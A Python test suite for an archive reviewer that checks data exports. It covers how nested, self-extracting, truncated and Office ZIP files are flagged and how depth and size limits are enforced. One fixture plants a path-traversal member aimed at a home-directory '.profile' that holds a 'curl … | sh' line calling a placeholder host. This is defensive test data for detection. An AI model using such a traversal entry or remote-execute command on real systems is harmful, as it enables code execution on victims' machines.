"""Nested archives are decided as unzip decides, by the end of central directory record, and get
the same hazard rules at every depth: a self-extracting archive (or any ZIP behind other bytes)
is opened and its members checked; a member named as an archive that is not one, or a damaged
one, gets the finding the export itself would get, naming it; Office documents are opened
without false alarms; and the depth and size limits hold for every kind of nested archive."""

from __future__ import annotations

import io
import json
import os
import shutil
import struct
import zipfile
from pathlib import Path

import pytest
import zipcraft
from zipcraft import DEFLATED, STORED, Entry

from reviewer.archive import Limits, read_export, read_member
from reviewer.archive.review import review_request
from reviewer.domain.model import ExportIndex, Finding, MemberKind, Severity, Verdict

OK_NAME = "Retail/SearchHistory.csv"
OK_DATA = b"customer_id,timestamp,query\nA3KX9ZQ2M7T1LB,2018-01-02T10:00:00Z,desk lamp\n"
SAMPLES = Path(__file__).resolve().parents[1] / "sample_archives"

# The start of a Windows self-extractor: the DOS header and stub, then filler for the program.
STUB = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + bytes(range(256)) * 16
)
ESCAPE = "../../home/reviewer/.profile"
INNER_CSV = "history/searches.csv"
INNER_FILES = {
    ESCAPE: b"curl https://example.invalid/x | sh\n",
    INNER_CSV: b"customer_id,query\nA3KX9ZQ2M7T1LB,electric kettle\n",
}


def zip_bytes(files: dict[str, bytes], comment: bytes = b"") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.comment = comment
        for name, data in files.items():
            zf.writestr(name, data)
    return buf.getvalue()


def self_extracting(files: dict[str, bytes], *, adjusted: bool, comment: bytes = b"") -> bytes:
    """A ZIP archive behind an executable stub: with its offsets counted from the start of the
    file (as `zip -A` leaves them), or from the start of the archive (`cat stub a.zip`)."""
    if not adjusted:
        return STUB + zip_bytes(files, comment)
    buf = io.BytesIO(STUB)
    with zipfile.ZipFile(buf, "a", zipfile.ZIP_DEFLATED) as zf:  # appends to a file that is no ZIP
        zf.comment = comment
        for name, data in files.items():
            zf.writestr(name, data)
    return buf.getvalue()


def read(tmp_path: Path, data: bytes, limits: Limits | None = None) -> ExportIndex:
    archive = tmp_path / "export.zip"
    archive.write_bytes(data)
    return read_export(archive, limits or Limits())


def export_with(name: str, data: bytes, method: int = STORED) -> bytes:
    return zipcraft.build([Entry(name, data, method=method), Entry(OK_NAME, OK_DATA)])


def finding(index: ExportIndex, code: str) -> Finding:
    found = [f for f in index.read_findings if f.code == code]
    assert found, f"no {code} finding in {[(f.code, f.detail) for f in index.read_findings]}"
    return found[0]


def codes(index: ExportIndex) -> list[str]:
    return sorted(f.code for f in index.read_findings)


def assert_rest_read(index: ExportIndex) -> None:
    member = index.member(OK_NAME)
    assert member is not None and member.readable
    assert next(index.tables[OK_NAME].records())["query"] == "desk lamp"


def wav(pcm: bytes, rate: int = 16000) -> bytes:
    fmt = struct.pack("<HHIIHH", 1, 1, rate, rate * 2, 2, 16)
    body = b"WAVEfmt " + struct.pack("<I", 16) + fmt + b"data" + struct.pack("<I", len(pcm)) + pcm
    return b"RIFF" + struct.pack("<I", len(body)) + body


# ----------------------------------------------------------------- archives behind other bytes


@pytest.mark.parametrize(
    ("name", "adjusted", "comment", "method"),
    [
        ("tools/setup.exe", True, b"", STORED),
        ("tools/setup.exe", False, b"self-extracting archive " * 200, DEFLATED),
        ("inner.zip", False, b"", DEFLATED),
        ("inner.zip", True, b"made by the export pipeline", STORED),
    ],
    ids=["exe-zip-A", "exe-cat-long-comment", "zip-cat", "zip-zip-A-comment"],
)
def test_self_extracting_archive_is_opened_and_its_hostile_member_found(
    tmp_path: Path, name: str, adjusted: bool, comment: bytes, method: int
) -> None:
    sfx = self_extracting(INNER_FILES, adjusted=adjusted, comment=comment)
    with zipfile.ZipFile(io.BytesIO(sfx)) as zf:  # a valid archive, as zipfile (and unzip) see it
        assert zf.testzip() is None
    index = read(tmp_path, export_with(name, sfx, method))
    traversal = finding(index, "zip-traversal")
    assert traversal.severity is Severity.CRITICAL
    assert traversal.members == (f"{name}!{ESCAPE}",)
    nested = finding(index, "zip-nested")
    assert nested.severity is Severity.INFO and nested.members == (name,)
    assert "behind other bytes" in nested.detail
    outer = index.member(name)
    assert outer is not None and outer.kind is MemberKind.ARCHIVE
    assert outer.type_label.startswith("ZIP archive behind other bytes")
    inner = f"{name}!{INNER_CSV}"
    assert [m.path for m in index.members] == [name, f"{name}!{ESCAPE}", inner, OK_NAME]
    assert "electric kettle" in dict(index.scan_texts())[inner]
    # the stub is bytes outside any member of the nested archive, as it is for the export
    stub = finding(index, "zip-unlisted-bytes")
    assert stub.members == (name,)
    assert f"nested archive {name!r}" in stub.detail and "before the first member" in stub.detail
    assert codes(index) == ["zip-nested", "zip-traversal", "zip-unlisted-bytes"]
    assert_rest_read(index)


def test_a_member_of_a_self_extracting_archive_reads_on_its_own(tmp_path: Path) -> None:
    archive = tmp_path / "export.zip"
    archive.write_bytes(
        export_with("tools/setup.exe", self_extracting(INNER_FILES, adjusted=False))
    )
    got = read_member(archive, f"tools/setup.exe!{INNER_CSV}", 1 << 20)
    assert got == INNER_FILES[INNER_CSV]


def sample_ogg() -> bytes:
    with zipfile.ZipFile(SAMPLES / "other-layout" / "export.zip") as zf:
        return zf.read("alexa/recordings/U3BF5999A61194D6.ogg")


@pytest.mark.parametrize("ext", ["wav", "ogg"])
def test_a_recording_with_an_archive_after_it_is_heard_and_opened(tmp_path: Path, ext: str) -> None:
    sound = wav(os.urandom(32000)) if ext == "wav" else sample_ogg()
    name = f"Alexa/Audio/U1.{ext}"
    honest = read(tmp_path, export_with(name, sound))
    assert honest.read_findings == []
    recording = sound + zip_bytes({"notes/other.txt": b"lukas@example.de"})
    index = read(tmp_path, export_with(name, recording))
    assert finding(index, "zip-nested").members == (name,)
    assert finding(index, "zip-unlisted-bytes").members == (name,)  # the sound before it
    member = index.member(name)
    assert member is not None and member.kind is MemberKind.AUDIO and member.audio is not None
    before = honest.member(name)
    assert before is not None and before.audio is not None and before.audio.duration_s
    assert member.audio.duration_s == before.audio.duration_s  # still read as a recording
    assert "lukas@example.de" in dict(index.scan_texts())[f"{name}!notes/other.txt"]


# ----------------------------------------------------------------- named as an archive, not one


def cut_archive() -> tuple[bytes, int]:
    """A three-member archive and where to cut it so that only the first two are left."""
    data = zipcraft.zip_of(
        {"a.csv": b"customer_id,query\nA1,toaster\n", "b.bin": os.urandom(5000), "c.txt": b"c"},
        method=zipfile.ZIP_STORED,
    )
    return data, data.index(b"c.txt") - 200


def broken_directory(data: bytes) -> bytes:
    at = data.index(b"PK\x01\x02")
    return data[:at] + b"XX" + data[at + 2 :]


WHOLE, CUT = cut_archive()
NOT_ARCHIVES = {
    # bytes of a member named inner.zip: (code, words of the reason, salvaged members)
    "empty": (b"", "zip-unreadable", "the file is empty", []),
    "text": (b"customer_id,query\nA1,lamp\n", "zip-unreadable", "not a ZIP archive", []),
    "cut": (WHOLE[:CUT], "zip-truncated", "listed from their own headers", ["a.csv", "b.bin"]),
    "cut-behind-stub": (
        STUB + WHOLE[:CUT],
        "zip-truncated",
        "listed from their own headers",
        ["a.csv", "b.bin"],
    ),
    "bad-directory-behind-stub": (
        STUB + broken_directory(WHOLE),
        "zip-truncated",
        "listed from their own headers",
        ["a.csv", "b.bin", "c.txt"],
    ),
}


@pytest.mark.parametrize("case", sorted(NOT_ARCHIVES))
def test_a_member_named_zip_gets_the_finding_the_export_would_get(
    tmp_path: Path, case: str
) -> None:
    data, code, why, salvaged = NOT_ARCHIVES[case]
    as_export = read(tmp_path, data)
    assert codes(as_export)[:1] == [code]  # the same bytes as the export
    index = read(tmp_path, export_with("inner.zip", data))
    f = finding(index, code)
    assert f.severity is Severity.CRITICAL
    assert f.members[0] == "inner.zip"
    assert "nested archive 'inner.zip'" in f.detail and why in f.detail
    listed = [m.path for m in index.members]
    assert listed == ["inner.zip", *(f"inner.zip!{n}" for n in salvaged), OK_NAME]
    if salvaged:
        assert "toaster" in dict(index.scan_texts())["inner.zip!a.csv"]
    assert_rest_read(index)


def test_text_named_zip_is_still_scanned(tmp_path: Path) -> None:
    index = read(tmp_path, export_with("inner.zip", b"contact: lukas@example.de\n"))
    assert finding(index, "zip-unreadable").members == ("inner.zip",)
    assert "lukas@example.de" in dict(index.scan_texts())["inner.zip"]


# ----------------------------------------------------------------- honest archives, no alarms


def word_document(text: str, author: str) -> bytes:
    """A .docx laid out as Word writes one: content types, relationships, the document with its
    revision ids, settings with the document's GUID, a theme, and the properties."""
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    w14 = "http://schemas.microsoft.com/office/word/2010/wordml"
    w15 = "http://schemas.microsoft.com/office/word/2012/wordml"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    ct = "application/vnd.openxmlformats-officedocument"
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
    parts = {
        "[Content_Types].xml": head
        + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{ct}.wordprocessingml.'
        'document.main+xml"/>'
        f'<Override PartName="/word/settings.xml" ContentType="{ct}.wordprocessingml.'
        'settings+xml"/>'
        f'<Override PartName="/word/theme/theme1.xml" ContentType="{ct}.theme+xml"/>'
        '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-'
        'package.core-properties+xml"/>'
        f'<Override PartName="/docProps/app.xml" ContentType="{ct}.extended-properties+xml"/>'
        "</Types>",
        "_rels/.rels": head
        + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="word/document.xml"/>'
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/'
        'relationships/metadata/core-properties" Target="docProps/core.xml"/>'
        f'<Relationship Id="rId3" Type="{rel}/extended-properties" Target="docProps/app.xml"/>'
        "</Relationships>",
        "word/document.xml": head
        + f'<w:document xmlns:w="{w}" xmlns:w14="{w14}" mc:Ignorable="w14" '
        'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><w:body>'
        '<w:p w14:paraId="6D2B1F0A" w14:textId="77777777" w:rsidR="00A37C5E" '
        'w:rsidRDefault="001F4B2D"><w:r><w:rPr><w:lang w:val="es-ES"/></w:rPr>'
        f"<w:t>{text}</w:t></w:r></w:p>"
        '<w:sectPr w:rsidR="00A37C5E"><w:pgSz w:w="11906" w:h="16838"/></w:sectPr>'
        "</w:body></w:document>",
        "word/_rels/document.xml.rels": head
        + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{rel}/settings" Target="settings.xml"/>'
        f'<Relationship Id="rId2" Type="{rel}/theme" Target="theme/theme1.xml"/>'
        "</Relationships>",
        "word/settings.xml": head
        + f'<w:settings xmlns:w="{w}" xmlns:w15="{w15}"><w:zoom w:percent="100"/>'
        '<w:rsids><w:rsidRoot w:val="00A37C5E"/><w:rsid w:val="001F4B2D"/>'
        '<w:rsid w:val="00A37C5E"/></w:rsids>'
        '<w15:docId w15:val="{4C8E2A1B-7D3F-4E6A-9B5C-2F1D8E7A6C3B}"/></w:settings>',
        "word/theme/theme1.xml": head
        + '<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'name="Office Theme"><a:themeElements><a:clrScheme name="Office">'
        '<a:dk2><a:srgbClr val="44546A"/></a:dk2><a:accent1><a:srgbClr val="4472C4"/>'
        "</a:accent1></a:clrScheme></a:themeElements></a:theme>",
        "docProps/core.xml": head
        + '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
        'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'xmlns:dcterms="http://purl.org/dc/terms/" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        f"<dc:creator>{author}</dc:creator><cp:lastModifiedBy>{author}</cp:lastModifiedBy>"
        "<cp:revision>2</cp:revision>"
        '<dcterms:created xsi:type="dcterms:W3CDTF">2019-01-30T09:12:00Z</dcterms:created>'
        "</cp:coreProperties>",
        "docProps/app.xml": head
        + '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
        'extended-properties"><Template>Normal.dotm</Template><TotalTime>1</TotalTime>'
        "<Pages>1</Pages><Application>Microsoft Office Word</Application>"
        "<AppVersion>16.0000</AppVersion></Properties>",
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in parts.items():
            zf.writestr(name, body.encode())
    return buf.getvalue()


def opendocument_text(text: str) -> bytes:
    """An .odt laid out as LibreOffice writes one: the stored mimetype first, then members
    followed by data descriptors (written to a stream that cannot seek back)."""

    class Stream(io.RawIOBase):
        def __init__(self) -> None:
            self.data = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, b: object) -> int:
            chunk = bytes(b)  # type: ignore[call-overload]
            self.data += chunk
            return len(chunk)

    out = Stream()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        mimetype = zipfile.ZipInfo("mimetype")
        zf.writestr(mimetype, b"application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
        zf.writestr("content.xml", f"<office:text><text:p>{text}</text:p></office:text>")
        zf.writestr("meta.xml", "<office:meta><meta:generator>LibreOffice</meta:generator>")
    return bytes(out.data)


def test_an_honest_nested_archive_gives_only_zip_nested(tmp_path: Path) -> None:
    inner = zipcraft.zip_of({"orders/2018.csv": b"customer_id,order\nA1,302-1\n"})
    docx = word_document("Estimada clienta:", "Servicio de privacidad")
    odt = opendocument_text("Querida clienta:")
    assert zipfile.ZipFile(io.BytesIO(odt)).infolist()[1].flag_bits & 0x8  # a data descriptor
    data = zipcraft.build(
        [
            Entry("shopping/2018.zip", inner),
            Entry("cartas/carta.docx", docx),
            Entry("cartas/carta.odt", odt),
            Entry(OK_NAME, OK_DATA),
        ]
    )
    index = read(tmp_path, data)
    assert [(f.code, f.severity) for f in index.read_findings] == [("zip-nested", Severity.INFO)]
    assert set(index.read_findings[0].members) == {
        "shopping/2018.zip",
        "cartas/carta.docx",
        "cartas/carta.odt",
    }
    assert "shopping/2018.zip!orders/2018.csv" in index.tables
    letter = index.member("cartas/carta.docx")
    assert letter is not None and letter.type_label == "Word document (ZIP archive)"
    texts = dict(index.scan_texts())
    assert "Estimada clienta" in texts["cartas/carta.docx!word/document.xml"]
    assert "Querida clienta" in texts["cartas/carta.odt!content.xml"]


def test_an_honest_self_extracting_archive_gets_what_the_export_would(tmp_path: Path) -> None:
    sfx = self_extracting({"orders/2019.csv": b"customer_id,order\nA1,302-2\n"}, adjusted=True)
    assert codes(read(tmp_path, sfx)) == ["zip-unlisted-bytes"]  # as the export: its stub
    index = read(tmp_path, export_with("tools/setup.exe", sfx))
    assert codes(index) == ["zip-nested", "zip-unlisted-bytes"]
    assert finding(index, "zip-unlisted-bytes").members == ("tools/setup.exe",)
    assert "tools/setup.exe!orders/2019.csv" in index.tables


@pytest.mark.parametrize(
    "data",
    [
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000),  # a legacy binary Word file
        b"Estimada clienta: ...\n",
        b"",
    ],
    ids=["legacy-binary", "text", "empty"],
)
def test_a_document_named_docx_that_is_no_zip_is_no_finding(tmp_path: Path, data: bytes) -> None:
    index = read(tmp_path, export_with("cartas/carta.docx", data))
    assert index.read_findings == []


def test_bytes_that_only_look_like_an_end_record_are_not_an_archive(tmp_path: Path) -> None:
    noise = os.urandom(20_000)
    # a signature with a comment length that does not reach the end, one whose directory would
    # lie before the start of the member, and a recording whose sound holds the signature
    loose = noise + b"PK\x05\x06" + bytes(4) + struct.pack("<HHIIH", 1, 1, 46, 0, 500) + noise
    bogus = noise + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, 46, 1 << 30, 0)
    sound = wav(os.urandom(16000) + bogus[-22:] + os.urandom(15978))
    data = zipcraft.build(
        [
            Entry("blob.bin", loose),
            Entry("other.bin", bogus),
            Entry("Alexa/Audio/U1.wav", sound),
            Entry(OK_NAME, OK_DATA),
        ]
    )
    index = read(tmp_path, data)
    assert index.read_findings == []
    assert [m.path for m in index.members] == [
        "blob.bin",
        "other.bin",
        "Alexa/Audio/U1.wav",
        OK_NAME,
    ]
    recording = index.member("Alexa/Audio/U1.wav")
    assert recording is not None and recording.audio is not None
    assert recording.audio.duration_s == 1.0


def test_an_office_document_passes_the_review_and_its_words_are_checked(tmp_path: Path) -> None:
    """The other-layout sample (a pass) with a letter added: still a pass, the letter's words
    are where the identity checks found the requester; with a stranger's address in it, the
    checks name the letter's text."""

    def review_with(letter: bytes) -> tuple[Verdict, tuple[Finding, ...]]:
        folder = tmp_path / f"req{len(list(tmp_path.iterdir()))}"
        folder.mkdir()
        shutil.copy(SAMPLES / "other-layout" / "request.json", folder / "request.json")
        with zipfile.ZipFile(SAMPLES / "other-layout" / "export.zip") as zf:
            files = {i.filename: zf.read(i) for i in zf.infolist()}
        files["cartas/carta-2019.docx"] = letter
        (folder / "export.zip").write_bytes(zipcraft.zip_of(files))
        report = review_request(folder).report
        return report.verdict, report.findings

    ticket = json.loads((SAMPLES / "other-layout" / "request.json").read_text())
    name, email = ticket["requester"]["name"], ticket["requester"]["email"]
    verdict, findings = review_with(
        word_document(f"Estimada {name}: le enviamos sus datos a {email}.", name)
    )
    assert verdict is Verdict.PASS, [(f.code, f.detail) for f in findings]
    assert [f for f in findings if f.severity is not Severity.INFO] == []
    [evidence] = [f for f in findings if f.code == "identity-evidence"]
    assert "cartas/carta-2019.docx!word/document.xml" in evidence.members
    verdict, findings = review_with(
        word_document("Copia para lukas.brandt@example.de", "Servicio de privacidad")
    )
    [foreign] = [f for f in findings if f.code == "foreign-identifier"]
    assert foreign.members == ("cartas/carta-2019.docx!word/document.xml",)
    assert verdict is Verdict.BLOCK


# ----------------------------------------------------------------- limits at every depth


def test_the_depth_limit_holds_for_archives_found_by_their_end(tmp_path: Path) -> None:
    sfx = self_extracting(INNER_FILES, adjusted=True)
    outer = zipcraft.build(
        [Entry("setup.exe", sfx), Entry("deep.zip", b"not an archive"), Entry("a.txt", b"a")]
    )
    index = read(tmp_path, export_with("outer.zip", outer), Limits(max_depth=1))
    too_deep = finding(index, "zip-nested-too-deep")
    assert too_deep.members == ("outer.zip!setup.exe",)
    assert index.member(f"outer.zip!setup.exe!{INNER_CSV}") is None
    assert "zip-traversal" not in codes(index)  # never opened
    # a member named as an archive that is none is what it is at any depth
    assert finding(index, "zip-unreadable").members == ("outer.zip!deep.zip",)
    assert finding(index, "zip-nested").members == ("outer.zip",)
    assert_rest_read(index)


def test_the_size_limit_holds_for_archives_found_by_their_end(tmp_path: Path) -> None:
    sfx = self_extracting({"big.bin": os.urandom(50_000), **INNER_FILES}, adjusted=False)
    index = read(tmp_path, export_with("setup.exe", sfx), Limits(max_nested_bytes=40_000))
    bomb = finding(index, "zip-bomb-size")
    assert bomb.members == ("setup.exe",) and "40,000-byte limit" in bomb.detail
    assert [m.path for m in index.members] == ["setup.exe", OK_NAME]


def test_honest_archives_nested_three_deep_stop_at_the_limit(tmp_path: Path) -> None:
    third = zipcraft.zip_of({"c.csv": b"k\n3\n"})
    second = self_extracting({"b.csv": b"k\n2\n", "third.zip": third}, adjusted=True)
    first = zipcraft.zip_of({"a.csv": b"k\n1\n", "second.exe": second})
    index = read(tmp_path, export_with("first.zip", first))
    assert set(finding(index, "zip-nested").members) == {"first.zip", "first.zip!second.exe"}
    assert finding(index, "zip-nested-too-deep").members == ("first.zip!second.exe!third.zip",)
    assert "first.zip!second.exe!b.csv" in index.tables
    assert index.member("first.zip!second.exe!third.zip!c.csv") is None
